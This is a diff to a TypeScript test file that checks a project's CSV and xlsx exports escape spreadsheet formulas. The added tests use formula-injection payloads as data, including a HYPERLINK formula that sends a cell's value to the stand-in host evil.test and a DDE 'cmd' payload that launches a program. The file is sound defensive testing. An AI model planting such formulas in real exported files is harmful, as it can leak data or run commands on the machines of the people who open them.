@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import ExcelJS from 'exceljs';
 import nl from '../../src/i18n/nl';
+import { recordsCsv } from '../../src/console/consoleExport';
 import { CSV_ROWS_PER_PIECE, csvPieces, exportDay, exportFile, exportFileName, exportNumber, toCsv, toXlsx, type ExportColumn, type ExportTable } from '../../src/common/export/listExport';
 
 /** The lists' exports (issue 14): CSV and xlsx from one module, values typed, headers in the page's language. */
@@ -63,6 +64,33 @@ describe('CSV', () => {
     expect(new TextDecoder().decode(bytes.slice(3)).split('\r\n')[0]).toBe('Naam,Ploeg,Gestart,Gemiddelde,Spelers');
     expect(blob.type).toBe('text/csv;charset=utf-8');
     expect(fileName).toBe('Players - 2026-2027.csv');
+  });
+});
+
+describe('formulas in the cells (issue 41)', () => {
+  const formulas = ['=HYPERLINK("http://evil.test/?x="&A1,"Click")', '+SUM(1,1)', "-2+3+cmd|' /C calc'!A0", '@SUM(1,1)', '\t=1+1', '\r=1+1'];
+  const evil = (name: string): Row => ({ name, team: name, started: null, score: '-2.5', players: -3 });
+
+  it('are written as text: a quote before them, the cell quoted; numbers stay numbers', () => {
+    const lines = toCsv({ ...table(), rows: formulas.map(evil) }).slice(1).split('\r\n').slice(1, -1);
+    expect(lines).toEqual(formulas.map((formula) => {
+      const cell = `"'${formula.replace(/"/g, '""')}"`;
+      return `${cell},${cell},,-2.5,-3`;
+    }));
+  });
+
+  it('are written as text in the console lists\' export too', () => {
+    const csv = recordsCsv([{ id: 1, name: '=1+1', details: '@SUM(1,1)', count: -4, nested: { a: 1 } }]);
+    expect(csv).toBe(`\uFEFFid,name,details,count,nested\r\n1,"'=1+1","'@SUM(1,1)",-4,"{""a"":1}"\r\n`);
+  });
+
+  it('stay text in xlsx (a string cell, never a formula)', async () => {
+    const workbook = await readWorkbook(await toXlsx({ ...table(), rows: formulas.slice(0, 4).map(evil) }));
+    const sheet = workbook.worksheets[0]!;
+    for (let row = 2; row <= 5; row++) {
+      expect(sheet.getRow(row).getCell(1).type).toBe(ExcelJS.ValueType.String);
+      expect(sheet.getRow(row).getCell(1).value).toBe(formulas[row - 2]);
+    }
   });
 });
 
